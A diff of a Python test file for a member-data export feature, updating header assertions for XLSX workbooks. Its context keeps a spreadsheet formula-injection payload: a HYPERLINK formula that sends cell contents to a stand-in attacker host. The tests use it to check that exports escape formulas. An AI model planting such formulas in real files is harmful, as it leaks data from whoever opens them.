@@ -32,6 +32,10 @@ from mms_tui.services.money.checkout import checkout
 from mms_tui.services.money.topup import top_up
 
 BOM = b"\xef\xbb\xbf"
+#: the member file's headers in an English workbook (#25: a person's headers; the import reads them back)
+XLSX_MEMBER_HEADERS = ("Name", "Phone", "Gender", "Birthday", "Tier", "Notes", "Joined", "Store", "Card number",
+                       "Card type", "Status", "Balance", "Bonus", "Points", "Visits", "Valid from", "Valid until",
+                       "Reader uid", "Barcode")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 DAY1, DAY2 = dt.datetime(2026, 11, 2, 10, 15), dt.datetime(2026, 11, 3, 18, 40)
 
@@ -135,7 +139,7 @@ def test_formulas_are_escaped_in_csv_and_xlsx_but_not_in_json(shop, tmp_path):
     export_table("members", str(tmp_path / "m.xlsx"))
     sheet = openpyxl.load_workbook(tmp_path / "m.xlsx").active
     rows = list(sheet.iter_rows())
-    assert [c.value for c in rows[0]] == list(MEMBER_COLUMNS)
+    assert [c.value for c in rows[0]] == list(XLSX_MEMBER_HEADERS)
     notes = MEMBER_COLUMNS.index("notes")
     assert {r[0].value: r[notes].value for r in rows[1:]} == expected
     assert all(r[notes].data_type == "s" for r in rows[1:])  # text, never a formula cell
@@ -258,7 +262,7 @@ def test_xlsx_longer_than_a_sheet_continues_on_a_second_sheet(shop, tmp_path, mo
     assert export_table("members", str(tmp_path / "m.xlsx")).rows == 5
     book = openpyxl.load_workbook(tmp_path / "m.xlsx")
     assert book.sheetnames == ["members", "members (2)", "members (3)"]
-    assert all(next(s.values) == MEMBER_COLUMNS for s in book.worksheets)
+    assert all(next(s.values) == XLSX_MEMBER_HEADERS for s in book.worksheets)
     assert sum(s.max_row - 1 for s in book.worksheets) == 5
 
 
@@ -313,7 +317,7 @@ def test_cli_writes_a_file_and_says_so(shop, mms, tmp_path):
     assert result.exit_code == 0, result.output
     assert result.stdout == ""
     assert result.stderr == f"Exported 5 rows to {target}.\n"
-    assert next(openpyxl.load_workbook(target).active.values) == MEMBER_COLUMNS
+    assert next(openpyxl.load_workbook(target).active.values) == XLSX_MEMBER_HEADERS
 
 
 def test_cli_member_data_to_a_file(shop, mms, tmp_path):
